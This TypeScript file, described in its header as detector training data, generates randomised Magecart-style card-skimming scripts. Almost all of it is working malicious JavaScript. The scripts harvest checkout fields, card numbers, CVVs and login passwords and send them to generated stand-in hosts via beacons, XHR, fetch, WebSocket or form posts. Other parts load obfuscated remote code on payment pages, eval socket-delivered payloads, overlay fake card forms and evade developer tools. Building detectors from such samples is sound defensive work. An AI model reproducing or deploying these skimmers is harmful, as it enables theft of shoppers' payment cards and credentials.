// Scripts that steal what visitors type into shops. Training data for a detector: never run, and the hosts do not exist.
import type { Family, Variation } from './variation.ts'

/** A piece of code that sends the text in `what` away, one of many ways. */
export function leave(v: Variation, what: string): string {
  const to = v.address()
  const url = v.pick([
    `'${to}'`,
    `atob('${Buffer.from(to).toString('base64')}')`,
    `'${to.slice(0, 9)}'+'${to.slice(9)}'`,
    `['${to.split('/').join("','")}'].join('/')`,
  ])
  const q = v.pick(['d', 'data', 'q', 'hash', 'r', 'img', 'ver', 'utm', 'id', 'p', 'c'])
  const body = v.pick([
    what,
    `btoa(${what})`,
    `encodeURIComponent(${what})`,
    `btoa(unescape(encodeURIComponent(${what})))`,
  ])
  return v.pick([
    `new Image().src=${url}+'?${q}='+${body};`,
    `var ${v.id(20)}=document.createElement('img');${v.id(20)}.src=${url}+'?${q}='+${body};${v.chance(0.5) ? `document.body.appendChild(${v.id(20)});` : ''}`,
    `var ${v.id(20)}=new XMLHttpRequest();${v.id(20)}.open('POST',${url},true);${v.id(20)}.setRequestHeader('Content-type','application/x-www-form-urlencoded');${v.id(20)}.send('${q}='+${body});`,
    `jQuery.ajax({url:${url},type:'POST',data:{${q}:${body}},dataType:'json',success:function(){return false}});`,
    `$.post(${url},{${q}:${body}});`,
    `fetch(${url},{method:'POST',mode:'no-cors',body:${body}});`,
    `navigator.sendBeacon(${url},${body});`,
    `var ${v.id(20)}=new WebSocket(${url}.replace('http','ws'));${v.id(20)}.onopen=function(){${v.id(20)}.send(${body})};`,
    `var ${v.id(20)}=document.createElement('script');${v.id(20)}.src=${url}+'?${q}='+${body};document.head.appendChild(${v.id(20)});`,
    `var ${v.id(20)}=document.createElement('form');${v.id(20)}.method='POST';${v.id(20)}.action=${url};var ${v.id(21)}=document.createElement('input');${v.id(21)}.name='${q}';${v.id(21)}.value=${body};${v.id(20)}.appendChild(${v.id(21)});document.body.appendChild(${v.id(20)});${v.id(20)}.submit();`,
  ])
}

const CHECKS = [
  'checkout',
  'onepage',
  'onestep',
  'onestepcheckout',
  'firecheckout',
  'payment',
  'order',
  'cart',
  'billing',
  'onestepcheckout|firecheckout|onepage',
]

/** Runs `code` on payment pages only. */
export function onCheckout(v: Variation, code: string): string {
  const word = v.pick(CHECKS)
  return v.pick([
    `if((new RegExp('${word}','gi')).test(window.location)){${code}}`,
    `if(location.href.indexOf('${word.split('|')[0] ?? ''}')!=-1){${code}}`,
    `if(/${word}/.test(document.location.href)){${code}}`,
    `if(window.location.pathname.match(/${word}/i)){${code}}`,
    `if(document.URL.includes(atob('${Buffer.from(word.split('|')[0] ?? '').toString('base64')}'))){${code}}`,
    code,
  ])
}

export const CARD_FIELDS = [
  'cc_number',
  'authorizenet_cc_number',
  'payment[cc_number]',
  'braintree_cc_number',
  'ccsave_cc_number',
  'card-number',
  'cardNumber',
  'stripe_cc_number',
  'verisign_cc_number',
  'wc-card-number',
  'credit-card-number',
]
const MORE_FIELDS = [
  'cc_cid',
  'cc_exp_month',
  'cc_exp_year',
  'billing:firstname',
  'billing:lastname',
  'billing:street1',
  'billing:postcode',
  'billing:telephone',
  'cvv',
  'expiry',
  'cc_owner',
  'billing[email]',
  'holder',
]

/** Code that puts the page's fields into the variable `into`. */
export function skim(v: Variation, into: string): string {
  const [a, b, c] = [v.id(10), v.id(11), v.id(12)]
  const fields = [v.pick(CARD_FIELDS), v.pick(MORE_FIELDS), v.pick(MORE_FIELDS), v.pick(MORE_FIELDS)]
  return v.pick([
    `var ${into}='';var ${a}=document.querySelectorAll('input, select, textarea');for(var ${b}=0;${b}<${a}.length;${b}++){if(${a}[${b}].value.length>0){var ${c}=${a}[${b}].name;if(${c}==''){${c}=${a}[${b}].id}${into}+=${c}+'='+${a}[${b}].value+'&'}}`,
    `var ${into}={};[].forEach.call(document.getElementsByTagName('input'),function(${a}){if(${a}.value)${into}[${a}.name||${a}.id]=${a}.value});${into}=JSON.stringify(${into});`,
    `var ${into}=jQuery('form').serialize();`,
    `var ${into}=JSON.stringify(jQuery('${v.pick(['#co-payment-form', 'form', '#checkout-form', '.payment-form', 'body form'])}').serializeArray());`,
    `var ${into}={};jQuery('input,select').each(function(){${into}[jQuery(this).attr('name')]=jQuery(this).val()});${into}=JSON.stringify(${into});`,
    `var ${into}=${fields.map((f) => `'${f}='+document.getElementById('${f}').value`).join("+'&'+")};`,
    `var ${into}=JSON.stringify({${fields.map((f, i) => `k${i}:$('[name="${f}"]').val()`).join(',')}});`,
    `var ${a}=document.forms,${into}='';for(var ${b}=0;${b}<${a}.length;${b}++){for(var ${c}=0;${c}<${a}[${b}].elements.length;${c}++){${into}+=${a}[${b}].elements[${c}].name+':'+${a}[${b}].elements[${c}].value+'|'}}`,
    `var ${into}=Array.from(document.querySelectorAll('input')).map(function(${a}){return ${a}.name+'='+${a}.value}).join('&');`,
    `var ${a}=['${fields.join("','")}'],${into}={};${a}.forEach(function(${b}){var ${c}=document.querySelector('[name="'+${b}+'"]');if(${c})${into}[${b}]=${c}.value});${into}=JSON.stringify(${into});`,
  ])
}

export const CARD_TEST = [
  '/^4[0-9]{12}(?:[0-9]{3})?$|^5[1-5][0-9]{14}$/',
  '/[0-9]{13,16}/',
  '/(?:4[0-9]{12}(?:[0-9]{3})?|[25][1-7][0-9]{14}|6(?:011|5[0-9][0-9])[0-9]{12}|3[47][0-9]{13})/',
  '/\\b\\d{4}[ -]?\\d{4}[ -]?\\d{4}[ -]?\\d{4}\\b/',
]

export const skimmer = (name: string, make: Family['make']): Family => ({
  name: `skimmer: ${name}`,
  label: 'magecart',
  make,
})

export const SKIMMERS: readonly Family[] = [
  skimmer('fields at an interval', (v) =>
    onCheckout(
      v,
      `setInterval(function(){${skim(v, v.id(0))}if(${v.id(0)}.length>${v.number(5, 60)}){${leave(v, v.id(0))}}},${v.number(3, 50) * 100});`,
    ),
  ),
  skimmer(
    'fields at a click',
    (v) =>
      `window.addEventListener('load',function(){${onCheckout(v, `var ${v.id(1)}=document.querySelectorAll('a[href*="javascript:void"],button,input,submit,.btn,.button');for(var i=0;i<${v.id(1)}.length;i++){${v.id(1)}[i].addEventListener('${v.pick(['click', 'mousedown', 'touchstart'])}',function(){${skim(v, v.id(0))}${leave(v, v.id(0))}})}`)}});`,
  ),
  skimmer('fields at submission', (v) =>
    v.pick([
      `jQuery(document).ready(function(){jQuery('form').${v.pick(['submit(', "on('submit',"])}function(){${skim(v, v.id(0))}${leave(v, v.id(0))}return true})});`,
      `document.addEventListener('submit',function(e){${skim(v, v.id(0))}${leave(v, v.id(0))}},true);`,
      `for(var k=0;k<document.forms.length;k++){document.forms[k].onsubmit=function(){${skim(v, v.id(0))}${leave(v, v.id(0))}}}`,
    ]),
  ),
  skimmer(
    'once sent, remembered',
    (v) =>
      `(function(){var ${v.id(3)}='${v.key(6)}';function ${v.id(4)}(){${skim(v, v.id(0))}if(${v.id(0)}!=localStorage.getItem(${v.id(3)})&&${CARD_TEST[1] ?? ''}.test(${v.id(0)})){localStorage.setItem(${v.id(3)},${v.id(0)});${leave(v, v.id(0))}}}${onCheckout(v, `setInterval(${v.id(4)},${v.number(5, 20) * 100})`)}})();`,
  ),
  skimmer(
    'staged in storage',
    (v) =>
      `document.addEventListener('${v.pick(['change', 'blur', 'input', 'keyup'])}',function(e){var ${v.id(0)}=JSON.parse(${v.pick(['localStorage', 'sessionStorage'])}.getItem('${v.key(5)}')||'{}');${v.id(0)}[e.target.name]=e.target.value;localStorage.setItem('${v.key(5)}',JSON.stringify(${v.id(0)}))},true);setInterval(function(){var ${v.id(1)}=localStorage.getItem('${v.key(5)}');if(${v.id(1)}&&${v.pick(CARD_TEST)}.test(${v.id(1)})){${leave(v, v.id(1))}}},${v.number(1, 9) * 1000});`,
  ),
  skimmer(
    'staged in a cookie',
    (v) =>
      `function ${v.id(0)}(n,t){document.cookie=n+'='+escape(t)+';path=/'}jQuery('body').on('change','#${v.pick(CARD_FIELDS)}',function(){${v.id(0)}('${v.key(4)}',jQuery(this).val())});window.onbeforeunload=function(){var ${v.id(1)}=document.cookie.match(/${v.key(4)}=([^;]*)/);${skim(v, v.id(2))}${leave(v, v.id(2))}};`,
  ),
  skimmer(
    'single field events',
    (v) =>
      `var ${v.id(0)}={};['${v.pick(CARD_FIELDS)}','${v.pick(MORE_FIELDS)}','${v.pick(MORE_FIELDS)}'].forEach(function(${v.id(1)}){var ${v.id(2)}=document.getElementById(${v.id(1)});if(!${v.id(2)})return;${v.id(2)}.addEventListener('${v.pick(['keyup', 'change', 'blur', 'paste'])}',function(){${v.id(0)}[${v.id(1)}]=this.value;if(Object.keys(${v.id(0)}).length>2){var ${v.id(3)}=JSON.stringify(${v.id(0)});${leave(v, v.id(3))}}})});`,
  ),
  skimmer(
    'own form over the real one',
    (v) =>
      `(function(){var ${v.id(0)}='<div id="${v.key(6)}" class="payment-box"><input type="tel" id="${v.id(5)}n" placeholder="Card number" maxlength="19"><input id="${v.id(5)}e" placeholder="MM / YY"><input id="${v.id(5)}c" placeholder="CVV" maxlength="4"></div>';var ${v.id(1)}=setInterval(function(){var ${v.id(2)}=document.querySelector('${v.pick(['#payment-method', '.payment_method_stripe', '#co-payment-form', '.checkout-payment-method', 'iframe[name*="braintree"]'])}');if(${v.id(2)}){clearInterval(${v.id(1)});${v.pick([`${v.id(2)}.innerHTML=${v.id(0)}`, `${v.id(2)}.insertAdjacentHTML('afterend',${v.id(0)});${v.id(2)}.style.display='none'`, `jQuery(${v.id(2)}).hide().after(${v.id(0)})`])};document.querySelector('${v.pick(['.btn-checkout', '#place_order', 'button[type=submit]', '.action.checkout'])}').addEventListener('click',function(){var ${v.id(6)}=document.getElementById('${v.id(5)}n').value+'|'+document.getElementById('${v.id(5)}e').value+'|'+document.getElementById('${v.id(5)}c').value+'|'+location.host;${leave(v, v.id(6))}})}},${v.number(2, 12) * 100})})();`,
  ),
  skimmer(
    'own frame for cards',
    (v) =>
      `${onCheckout(v, `var ${v.id(0)}=document.createElement('iframe');${v.id(0)}.src='${v.address()}?h='+location.hostname;${v.id(0)}.style.cssText='border:0;width:100%;height:${v.number(200, 400)}px';var ${v.id(1)}=document.querySelector('#payment_form_ccsave,.payment-method-content,#card-element');${v.id(1)}.innerHTML='';${v.id(1)}.appendChild(${v.id(0)});window.addEventListener('message',function(e){if(e.data.card){${leave(v, 'JSON.stringify(e.data)')}}});`)}`,
  ),
  skimmer(
    'hidden from developers',
    (v) =>
      `(function(){var ${v.id(0)}={open:false};var ${v.id(1)}=${v.number(120, 200)};setInterval(function(){var w=window.outerWidth-window.innerWidth>${v.id(1)};var h=window.outerHeight-window.innerHeight>${v.id(1)};${v.id(0)}.open=w||h||(window.Firebug&&window.Firebug.chrome&&window.Firebug.chrome.isInitialized);${v.chance(0.5) ? `window.dispatchEvent(new CustomEvent('devtoolschange',{detail:{open:${v.id(0)}.open}}));` : ''}},500);${onCheckout(v, `setInterval(function(){if(${v.id(0)}.open)return;${skim(v, v.id(2))}if(${v.pick(CARD_TEST)}.test(${v.id(2)})){${leave(v, v.id(2))}}},${v.number(6, 15) * 100})`)}})();`,
  ),
  skimmer(
    'kit with an object of fields',
    (v) =>
      `var ${v.id(0)}={Number:null,Holder:null,Date:null,Month:null,Year:null,CVV:null,Gate:'${v.address()}',Data:{},Sent:[],SaveParam:function(e){if(e.id!==undefined&&e.id!=''&&e.value!=''&&e.value.length<256){if(${v.pick(CARD_TEST)}.test(e.value.split(' ').join('')))this.IsValid=true;this.Data[e.id]=e.value}},SaveAll:function(){var a=document.getElementsByTagName('input');for(var i=0;i<a.length;i++)this.SaveParam(a[i]);var b=document.getElementsByTagName('select');for(i=0;i<b.length;i++)this.SaveParam(b[i])},Send:function(){if(!this.IsValid)return;this.Data.Domain=location.hostname;var d=btoa(JSON.stringify(this.Data));if(this.Sent.indexOf(d)==-1){this.Sent.push(d);${v.pick(["var i=document.createElement('IMG');i.src=this.Gate+'?refresh='+d", "var i=new Image();i.src=this.Gate+'?hash='+d", "var x=new XMLHttpRequest();x.open('POST',this.Gate,true);x.send('data='+d)"])}}}};setInterval(function(){${v.id(0)}.SaveAll();${v.id(0)}.Send()},${v.number(3, 10) * 100});`,
  ),
  skimmer(
    'counter as a cover',
    (v) =>
      `<script>(function(i,s,o,g,r,a,m){i['GoogleAnalyticsObject']=r;i[r]=i[r]||function(){(i[r].q=i[r].q||[]).push(arguments)}})(window,document,'script','//www.google-analytics.example/analytics.js','ga');ga('create','UA-${v.number(10000, 99999)}-1','auto');</script><script>${onCheckout(v, `${skim(v, v.id(0))}document.querySelector('button').onclick=function(){${skim(v, v.id(1))}${leave(v, v.id(1))}}`)}</script>`,
  ),
  skimmer('loader for payment pages', (v) => {
    const to = Buffer.from(v.address()).toString('base64')
    return v.pick([
      `!function(){if(/${v.pick(CHECKS)}/.test(location.href)){var ${v.id(0)}=document.createElement('script');${v.id(0)}.async=1;${v.id(0)}.src=atob('${to}');document.getElementsByTagName('head')[0].appendChild(${v.id(0)})}}();`,
      `(function(w,d,s,l){w[l]=w[l]||[];w[l].push({'gtm.start':new Date().getTime(),event:'gtm.js'});var h=atob('${to}');if(document.location.href.match(new RegExp(atob('${Buffer.from('checkout').toString('base64')}')))){var f=d.getElementsByTagName(s)[0],j=d.createElement(s);j.async=true;j.src=h;f.parentNode.insertBefore(j,f)}})(window,document,'script','dataLayer');`,
      `var ${v.id(0)}=['${to.split('').toReversed().join('')}','${Buffer.from('checkout').toString('base64')}'];if(window.location.href.includes(atob(${v.id(0)}[1]))){document.write('<scr'+'ipt src="'+atob(${v.id(0)}[0].split('').reverse().join(''))+'"></scr'+'ipt>')}`,
    ])
  }),
  skimmer(
    'code over a socket',
    (v) =>
      `(function(){${onCheckout(v, `var ${v.id(0)}=new WebSocket('wss://'+${v.pick([`'${v.key(4).toLowerCase()}.example.net/ws'`, `atob('${Buffer.from(`${v.key(5).toLowerCase()}.example.org/common?source=`).toString('base64')}')`])}+encodeURIComponent(location.href));${v.id(0)}.onmessage=function(e){${v.pick(['eval(e.data)', 'new Function(e.data)()', "var s=document.createElement('script');s.text=e.data;document.body.appendChild(s)", '(0,eval)(atob(e.data))'])}};`)}})();`,
  ),
  skimmer(
    'code in a picture',
    (v) =>
      `fetch('${v.pick(['/favicon.ico', '/media/logo.png', '/skin/img/share.svg', v.address()])}').then(function(r){return r.text()}).then(function(t){var ${v.id(0)}=t.${v.pick(["split('<!--')[1]", 'slice(-2048)', 'match(/Copyright:(.*?);/)[1]', "substring(t.indexOf('d=')+2)"])};${v.pick([`new Function(atob(${v.id(0)}))()`, `eval(${v.id(0)}.split(' ').map(function(c){return String.fromCharCode(c.length)}).join(''))`, `(function(){}).constructor(${v.id(0)})()`])}});`,
  ),
  skimmer(
    'account and card at log-in',
    (v) =>
      `jQuery(function($){$('#login-form,#customer-form,form.login').on('submit',function(){var ${v.id(0)}='l='+$('input[name="login[username]"]').val()+'&p='+$('input[name="login[password]"],input[type=password]').val()+'&u='+location.host;${leave(v, v.id(0))}});$('#opc-payment,.payment-methods').on('click',function(){${skim(v, v.id(1))}${leave(v, v.id(1))}})});`,
  ),
  skimmer(
    'patched requests',
    (v) =>
      `(function(){var ${v.id(0)}=XMLHttpRequest.prototype.send;XMLHttpRequest.prototype.send=function(b){try{if(b&&${v.pick(CARD_TEST)}.test(b)){${skim(v, v.id(1))}${leave(v, v.id(1))}}}catch(e){}return ${v.id(0)}.apply(this,arguments)}})();`,
  ),
  skimmer(
    'old shop with Prototype',
    (v) =>
      `document.observe('dom:loaded',function(){$$('button.btn-checkout').each(function(b){b.observe('click',function(){var ${v.id(0)}=Form.serialize('co-billing-form')+'&'+Form.serialize($('co-payment-form'))+'&n='+$F('${v.pick(CARD_FIELDS)}')+'&c='+$('ccsave_cc_cid').value;new Ajax.Request('${v.address()}',{method:'post',parameters:${v.id(0)}});${leave(v, v.id(0))}})})});`,
  ),
  skimmer('words put together', (v) => {
    const chunks = ['inp', 'ut', 'val', 'ue', 'sel', 'ect', 'quer', 'ySelectorAll', 'na', 'me']
    const [g] = [v.id(0)]
    return `var ${g}=${JSON.stringify(chunks)};(function(d,w){w['set'+'Interval'](function(){var r='';var e=d[${g}[6]+${g}[7]](${g}[0]+${g}[1]+','+${g}[4]+${g}[5]);for(var i=0;i<e.length;i++)r+=e[i][${g}[8]+${g}[9]]+':'+e[i][${g}[2]+${g}[3]]+';';if(r!=w.${v.id(1)}&&/\\d{12,}/.test(r.replace(/\\s/g,''))){w.${v.id(1)}=r;${leave(v, 'r')}}},${v.number(5, 30) * 100})})(document,window);`
  }),
  skimmer(
    'one word, encrypted',
    (v) =>
      `(function(){function ${v.id(0)}(s,k){var o='';for(var i=0;i<s.length;i++)o+=String.fromCharCode(s.charCodeAt(i)^k.charCodeAt(i%k.length));return btoa(o)}${onCheckout(v, `document.addEventListener('${v.pick(['click', 'mouseup'])}',function(e){if(!e.target.closest('${v.pick(['.action', '#checkout', 'button', '[type=submit]'])}'))return;${skim(v, v.id(1))}var ${v.id(2)}=${v.id(0)}(${v.id(1)},'${v.key(8)}');${leave(v, v.id(2))}})`)}})();`,
  ),
]
